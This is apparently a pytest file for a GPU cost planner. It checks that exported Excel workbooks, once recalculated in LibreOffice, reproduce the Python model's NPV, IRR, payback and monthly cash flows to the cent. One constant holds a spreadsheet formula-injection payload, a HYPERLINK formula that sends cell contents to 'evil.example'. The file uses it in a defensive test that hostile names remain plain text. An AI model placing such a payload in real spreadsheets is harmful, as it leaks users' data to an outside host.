"""The workbook finance recalculates: LibreOffice opens the xlsx (formulas, no cached values),
recalculates it, and every total, monthly cash flow, NPV, IRR, payback and break-even month
must equal the Python model's to the cent; changing the electricity price or a server count
on Assumptions moves NPV exactly as the model predicts with the changed input.

Cases: the worked example (one server, flat utilization, four cloud prices), the bundled
sample (a replay with a hybrid, a 4-month lead time bridged in the cloud, two pools), the
cloud-only sample (a 1-year commitment with overflow) and a hand-computed case. One
LibreOffice run recalculates every workbook (module fixture).
"""

from dataclasses import replace
from datetime import date
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from planner.core.file_access import LOCAL_FILES
from planner.core.serialize import from_json, to_json
from planner.cost import finance, tco
from planner.cost.baremetal import BareMetal
from planner.cost.inputs import TcoInputs
from planner.cost.results import Horizon, OptionReport, TcoReport
from planner.cost.scenario import TcoScenario
from planner.report import build_report
from planner.report.excel import write_xlsx
from planner.report.workbook.owned import ROW, VALUE_COLUMN
from planner.report.workbook.cloud_inputs import PARTS
from planner.report.workbook.rented import COL as CLOUD_COL
from planner.report.workbook.rented import ROWS as CLOUD_ROW
from planner.service.tco_files import load_tco_scenario
from planner.service.tco_run import run_tco
from planner.store import open_store
from tests.libreoffice import recalculate

SCENARIOS = Path(__file__).parent.parent / "data" / "scenarios"
TODAY = date(2026, 6, 1)
CENT = 0.005
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HAND = {
    "name": "hand",
    "currency": "USD",
    "horizons_years": [1],
    "discount_rate": 0.0,
    "utilization": 0.5,
    "self_hosted": [
        {"gpu": "H100", "servers": 1, "gpus_per_server": 8, "price": 100000, "idle_kw": 1.0,
         "load_kw": 2.0, "max_kw": 2.0}
    ],
    "overrides": {
        "network_share": 0.0, "storage_share": 0.0, "life_years": 1.0, "pue": 1.0,
        "kwh_price": 0.1, "colo_per_kw_month": 0.0, "support_share_year": 0.0,
        "fte_per_server": 0.0, "lead_time_months": 0, "availability": 1.0,
    },
    "cloud": [{"name": "flat", "gpu": "H100", "price_per_gpu_hour": 10.0}],
}  # fmt: skip
TAXED = {
    **HAND,
    "name": "taxed",
    "horizons_years": [4],
    "discount_rate": 0.1,
    "overrides": {
        **HAND["overrides"],  # type: ignore[dict-item]
        "life_years": 3.0, "residual_share": 0.1, "depreciation_method": "double_declining",
        "tax_rate": 0.25, "tax_life_years": 2.0, "tax_method": "sum_of_years_digits",
        "lead_time_months": 2, "fte_per_server": 0.5, "support_share_year": 0.1,
        "kwh_price": tuple(0.05 + 0.01 * (h % 6) for h in range(24)),
    },
}  # fmt: skip
"""Tax, declining-balance book and sum-of-years tax depreciation, a residual, a lead time
bridged by the cloud, staff, support and a time-of-use tariff: the sheet's rarer formulas."""


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, TcoReport]:
    con = open_store(tmp_path_factory.mktemp("wb") / "planner.duckdb")
    try:
        found = {
            name: run_tco(
                con, load_tco_scenario(SCENARIOS / f"{file}.yaml"), files=LOCAL_FILES, today=TODAY
            )
            for name, file in (
                ("worked", "worked-example-h100"),
                ("sample", "sample-tco"),
                ("cloud", "cloud-on-demand"),
            )
        }
        hand = TcoScenario.model_validate(HAND)
        found["hand"] = run_tco(con, hand, files=LOCAL_FILES, today=TODAY)
        cloud = {**HAND["cloud"][0], "name": LINK}  # type: ignore[index]
        hostile = TcoScenario.model_validate({**HAND, "name": LINK, "cloud": [cloud]})
        found["hostile"] = run_tco(con, hostile, files=LOCAL_FILES, today=TODAY)
        taxed = TcoScenario.model_validate(TAXED)
        found["taxed"] = run_tco(con, taxed, files=LOCAL_FILES, today=TODAY)
    finally:
        con.close()
    # what a saved report reads back (the Compare page's) must carry the same inputs
    return {k: from_json(TcoReport, to_json(r)) for k, r in found.items()}


def _xlsx(report: TcoReport, horizon: int = 0) -> bytes:
    return write_xlsx(build_report([(report.scenario, report)], horizon, "en", TODAY))


def _changed(data: bytes, changes: dict[str, float]) -> bytes:
    """The workbook with defined names' cells set to new values (as a reader would)."""
    book = load_workbook(BytesIO(data))
    for name, value in changes.items():
        ((sheet, cell),) = book.defined_names[name].destinations
        book[sheet][cell.replace("$", "")].value = value
    out = BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.fixture(scope="module")
def recalculated(
    reports: dict[str, TcoReport], tmp_path_factory: pytest.TempPathFactory
) -> dict[str, Workbook]:
    folder = tmp_path_factory.mktemp("xlsx")
    files: dict[str, bytes] = {k: _xlsx(r) for k, r in reports.items()}
    files["worked5"] = _xlsx(reports["worked"], 1)
    files["worked_tariff"] = _changed(files["worked"], {"Tariff": 0.135})
    files["sample_changed"] = _changed(files["sample"], {"Tariff": 0.12, "Servers_A100": 100})
    files["hand_tariff"] = _changed(files["hand"], {"Tariff": 0.2})
    both = build_report([("A", reports["worked"]), ("B", reports["taxed"])], 0, "en", TODAY)
    files["two"] = write_xlsx(both)
    paths = []
    for name, data in files.items():
        path = folder / f"{name}.xlsx"
        path.write_bytes(data)
        paths.append(path)
    out = recalculate(paths, folder / "out")
    return {p.stem: load_workbook(p, data_only=True) for p in out}


def _figure(book: Workbook, sheet: str, key: str, cloud: bool = False) -> Any:
    row = (CLOUD_ROW if cloud else ROW)[key]
    return book[sheet].cell(row, VALUE_COLUMN).value


def _number(value: object) -> float:
    assert isinstance(value, int | float), f"not a number: {value!r}"
    return float(value)


def _column(book: Workbook, sheet: str, column: int, months: int) -> list[float]:
    return [_number(book[sheet].cell(r, column).value) for r in range(2, months + 2)]


def _check_owned(book: Workbook, o: OptionReport, months: int) -> None:
    cash = _column(book, o.name, 17, months)
    assert cash == pytest.approx(list(o.monthly_cash), abs=CENT)
    assert _column(book, o.name, 16, months) == pytest.approx(list(o.monthly_pnl), abs=CENT)
    assert _figure(book, o.name, "total_pnl") == pytest.approx(o.total, abs=CENT)
    for key, column in (("capex", 3), ("depreciation", 4), ("energy", 5), ("colocation", 6),
                        ("support", 7), ("staff", 8), ("bridge", 11), ("cloud_burst", 12)):  # fmt: skip
        total = sum(_column(book, o.name, column, months))
        assert total == pytest.approx(o.totals.get(key, 0.0), abs=CENT), key
    assert _figure(book, o.name, "useful") == pytest.approx(o.useful_gpu_hours, rel=1e-12)
    for short, key in (("per_useful", "cost_per_useful_gpu_hour"),
                       ("per_installed", "cost_per_installed_gpu_hour"),
                       ("per_allocated", "cost_per_allocated_gpu_hour")):  # fmt: skip
        assert _figure(book, o.name, short) == pytest.approx(getattr(o, key), rel=1e-9), key
    assert _figure(book, o.name, "idle") == pytest.approx(o.idle_cost, abs=CENT)
    assert _figure(book, o.name, "eac") == pytest.approx(o.equivalent_annual_cost, abs=CENT)


def _check_rented(book: Workbook, o: OptionReport, months: int) -> None:
    cash = _column(book, o.name, CLOUD_COL["cash"], months)
    assert cash == pytest.approx(list(o.monthly_cash), abs=CENT)
    assert _figure(book, o.name, "total_pnl", True) == pytest.approx(o.total, abs=CENT)
    for part in PARTS[:-1]:  # every part a formula: none left as a stated amount
        total = sum(_column(book, o.name, CLOUD_COL[part], months))
        assert total == pytest.approx(o.totals.get(part, 0.0), abs=CENT), part
    assert sum(_column(book, o.name, CLOUD_COL["other"], months)) == 0.0
    assert _figure(book, o.name, "per_useful", True) == pytest.approx(
        o.cost_per_useful_gpu_hour, rel=1e-9
    )
    eac = _figure(book, o.name, "eac", True)
    assert eac == pytest.approx(o.equivalent_annual_cost, abs=CENT)


def _check(book: Workbook, report: TcoReport, horizon: Horizon) -> None:
    months = round(horizon.years * 12)
    owned = {o.name for o in (report.inputs.owned if report.inputs else ())}
    for o in horizon.options:
        (_check_owned if o.name in owned else _check_rented)(book, o, months)
    sheet = book["Comparison"] if horizon.comparisons else None
    for k, c in enumerate(horizon.comparisons):
        assert sheet is not None
        row = [sheet.cell(4 + k, j).value for j in range(1, 7)]
        assert row[0] == c.rented
        assert row[1] == pytest.approx(c.npv_of_buying, abs=CENT)
        if c.irr is not None:
            assert row[2] == pytest.approx(c.irr, abs=1e-7)
        assert row[3] == ("never" if c.payback_month is None else c.payback_month)
        assert row[4] == ("never" if c.break_even_month is None else c.break_even_month)
        assert row[5] == pytest.approx(c.break_even_utilization, rel=1e-9)


@pytest.mark.parametrize("name", ["worked", "sample", "cloud", "hand", "taxed"])
def test_every_total_recalculates_to_the_models_cent(
    name: str, reports: dict[str, TcoReport], recalculated: dict[str, Workbook]
) -> None:
    report = reports[name]
    assert report.inputs is not None
    _check(recalculated[name], report, report.horizons[0])


def test_the_five_year_horizon_recalculates_too(
    reports: dict[str, TcoReport], recalculated: dict[str, Workbook]
) -> None:
    report = reports["worked"]
    assert recalculated["worked5"]["Assumptions"]["B5"].value == 60
    _check(recalculated["worked5"], report, report.horizons[1])


def test_the_hand_computed_case(recalculated: dict[str, Workbook]) -> None:
    """One 8-GPU server at $100,000 depreciated over 12 months, drawing 1.5 kW (half of its
    8 GPUs busy: 1 + (2 - 1) x 0.5) at $0.10 a kWh = $109.50 a 730-hour month; renting the
    same 2,920 GPU-hours a month at $10 is $29,200. Saving: -$70,909.50 in month 0, then
    $29,090.50 a month; undiscounted NPV = -70,909.50 + 11 x 29,090.50 = $249,086; the
    cumulative saving turns positive in month 3 (-70,909.5 + 3 x 29,090.5 = 16,362)."""
    book = recalculated["hand"]
    own = book["self-hosted"]
    assert own["Q2"].value == pytest.approx(100_109.50, abs=CENT)
    assert own["Q3"].value == pytest.approx(109.50, abs=CENT)
    assert own["D2"].value == pytest.approx(100_000 / 12, abs=CENT)
    assert own["O13"].value == pytest.approx(0.0, abs=CENT)  # fully depreciated: nothing sold
    assert book["flat"].cell(2, CLOUD_COL["cash"]).value == pytest.approx(29_200, abs=CENT)
    comparison = book["Comparison"]
    assert comparison["B4"].value == pytest.approx(249_086.0, abs=CENT)
    assert comparison["D4"].value == 3
    assert comparison["E4"].value == 3
    # doubling the tariff adds 109.50 a month of energy: NPV falls by 12 x 109.50
    changed = recalculated["hand_tariff"]["Comparison"]["B4"].value
    assert changed == pytest.approx(249_086.0 - 12 * 109.5, abs=CENT)


def _model_npv(inputs: TcoInputs, horizon: Horizon, bm: BareMetal) -> float:
    """NPV of buying against the first cloud option, priced by the Python model from the
    report's recorded inputs with `bm` as the self-hosted assumptions."""
    months = round(horizon.years * 12)
    rate = inputs.discount_rate
    demand = inputs.owned[0].demand
    first = inputs.clouds[0].rented
    useful = demand.useful_gpu_hours if first.useful_gpu_hours is None else first.useful_gpu_hours
    own = tco.owned_option(
        "self-hosted", bm, demand, months, rate, bridge=tco.Bridge(first.monthly_total, useful)
    )
    rent = tco.rented_option(first, demand, months, rate, tax_rate=bm.tax_rate)
    return finance.npv([r - o for r, o in zip(rent.cash, own.cash, strict=True)], rate)


@pytest.mark.parametrize(
    "case", [("worked", "worked_tariff", 0.135, None), ("sample", "sample_changed", 0.12, 100)]
)
def test_changing_an_assumption_moves_npv_as_the_model_predicts(
    case: tuple[str, str, float, int | None],
    reports: dict[str, TcoReport],
    recalculated: dict[str, Workbook],
) -> None:
    """Tariff (and the first pool's servers) changed on Assumptions: the recalculated NPV is
    the model's with the same change (the replay's quantities held)."""
    name, changed, tariff, servers = case
    report = reports[name]
    assert report.inputs is not None
    horizon = report.horizons[0]
    bm = report.inputs.owned[0].bare_metal
    # the recorded inputs reproduce the report's NPV in Python
    assert _model_npv(report.inputs, horizon, bm) == pytest.approx(
        horizon.comparisons[0].npv_of_buying, abs=CENT
    )
    pools = bm.pools
    if servers is not None:
        pools = (replace(pools[0], servers=servers), *pools[1:])
    moved = replace(bm, kwh_price=(tariff,), pools=pools)
    predicted = _model_npv(report.inputs, horizon, moved)
    got = recalculated[changed]["Comparison"]["B4"].value
    before = recalculated[name]["Comparison"]["B4"].value
    assert abs(predicted - horizon.comparisons[0].npv_of_buying) > 1000  # it does move
    assert got == pytest.approx(predicted, abs=CENT)
    assert got != pytest.approx(before, abs=1.0)


def test_ledger_balances_after_recalculation(
    reports: dict[str, TcoReport], recalculated: dict[str, Workbook]
) -> None:
    sheet = recalculated["sample"]["Ledger"]
    header = [c.value for c in sheet[1]]
    imbalance = header.index("Imbalance (demanded - accounted)") + 1
    demanded = header.index("Demanded") + 1
    rows = range(2, sheet.max_row + 1)
    assert len(rows) >= 3 * 2  # three options, two horizons
    for r in rows:
        assert sheet.cell(r, imbalance).value == pytest.approx(
            0.0, abs=1e-6 * _number(sheet.cell(r, demanded).value)
        )


def test_cover_shows_the_recalculated_npv(
    reports: dict[str, TcoReport], recalculated: dict[str, Workbook]
) -> None:
    cover = recalculated["worked"]["Cover"]
    live = {
        row[0]: row[1]
        for row in cover.iter_rows(min_row=3, values_only=True)
        if isinstance(row[0], str) and "recalculated" in row[0]
    }
    comparisons = reports["worked"].horizons[0].comparisons
    assert len(live) == len(comparisons)
    for c in comparisons:
        key = f"NPV of buying vs {c.rented} (recalculated from Assumptions)"
        assert live[key] == pytest.approx(c.npv_of_buying, abs=CENT)


def test_hostile_names_stay_text_and_their_sheets_still_compute(
    recalculated: dict[str, Workbook],
) -> None:
    """A scenario and a cloud option named `=HYPERLINK(...)`: the option's sheet is named
    after it, formulas refer to it quoted, and after LibreOffice recalculates, the names are
    still text and the hand case's NPV is unchanged."""
    book = recalculated["hostile"]
    assert book["Comparison"]["A4"].value == LINK
    assert book["Comparison"]["B4"].value == pytest.approx(249_086.0, abs=CENT)
    cover = {row[0]: row[1] for row in book["Cover"].iter_rows(min_row=3, values_only=True)}
    assert cover["Scenarios"] == LINK
    assert any(title.startswith("=HYPERLINK") for title in book.sheetnames)


def test_the_same_report_gives_the_same_bytes(reports: dict[str, TcoReport]) -> None:
    assert _xlsx(reports["hand"]) == _xlsx(reports["hand"])


def test_a_chinese_workbook_names_its_sheets_and_inputs_in_chinese(
    reports: dict[str, TcoReport],
) -> None:
    report = reports["worked"]
    data = write_xlsx(build_report([(report.scenario, report)], 0, "zh", TODAY))
    book = load_workbook(BytesIO(data))
    assert book.sheetnames[:2] == ["封面", "假设"]
    assert {"比较", "月度现金流", "折旧", "敏感性", "需求台账", "回放"} <= set(book.sheetnames)
    assumptions = {row[0] for row in book["假设"].iter_rows(min_row=4, values_only=True)}
    assert {"折现率（名义）", "PUE（能效比）", "电价", "每全职人员成本"} <= assumptions
    assert book["自建"]["Q1"].value == "现金流"


def test_two_scenarios_in_one_workbook_each_recalculate(
    reports: dict[str, TcoReport], recalculated: dict[str, Workbook]
) -> None:
    """The Compare page's workbook: each scenario's sheets and names carry its number."""
    book = recalculated["two"]
    for tag, name in (("S1", "worked"), ("S2", "taxed")):
        expected = reports[name].horizons[0].comparisons[0].npv_of_buying
        assert book[f"{tag} Comparison"]["B4"].value == pytest.approx(expected, abs=CENT)
        assert book[f"{tag} Assumptions"]["G4"].value == f"{tag}_DiscountRate"


EXCEL_FUNCTIONS = {
    "AND", "AVERAGE", "IF", "IFERROR", "INDEX", "INT", "IRR", "MATCH", "MAX", "MIN", "NPV",
    "OR", "ROUND", "ROUNDUP", "SUM", "SUMPRODUCT", "VDB",
}  # fmt: skip


def test_formulas_use_excel_functions_and_valid_names(reports: dict[str, TcoReport]) -> None:
    import re

    for name in ("sample", "taxed", "cloud"):
        book = load_workbook(BytesIO(_xlsx(reports[name])))
        formulas = [
            str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row
            if c.data_type == "f"
        ]  # fmt: skip
        quoted = [re.sub(r"'(?:[^']|'')*'!|\"[^\"]*\"", "", f) for f in formulas]
        used = {m for f in quoted for m in re.findall(r"([A-Z][A-Z0-9.]*)\(", f)}
        assert used <= EXCEL_FUNCTIONS, used - EXCEL_FUNCTIONS
        assert len(book.defined_names) >= 10
        for defined in book.defined_names:
            assert re.fullmatch(r"[A-Za-z][A-Za-z0-9_.]*", defined), defined
            assert not re.fullmatch(r"[A-Za-z]{1,3}[0-9]+|[RrCc][0-9]*", defined), defined


def test_replay_sheet_says_utilization_waits_and_why_jobs_waited(
    reports: dict[str, TcoReport],
) -> None:
    report = reports["sample"]
    assert report.inputs is not None
    sheet = load_workbook(BytesIO(_xlsx(report)))["Replay"]
    rows = [r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] is not None]
    facts = {(str(r[1]), str(r[2])): r[3] for r in rows}
    for owned in report.inputs.owned:
        replay = owned.replay
        assert replay is not None
        assert facts[(owned.name, "Utilization of the owned GPUs")] == replay.utilization
        assert facts[(owned.name, "Jobs")] == replay.jobs
        wait = facts[(owned.name, "p95 wait (h)")]
        assert wait == pytest.approx((replay.wait_p95_s or 0.0) / 3600)
        reasons = {k[1] for k in facts if k[0] == owned.name and "waited because" in k[1]}
        assert len(reasons) == len(replay.waiting_gpu_hours_by_reason)
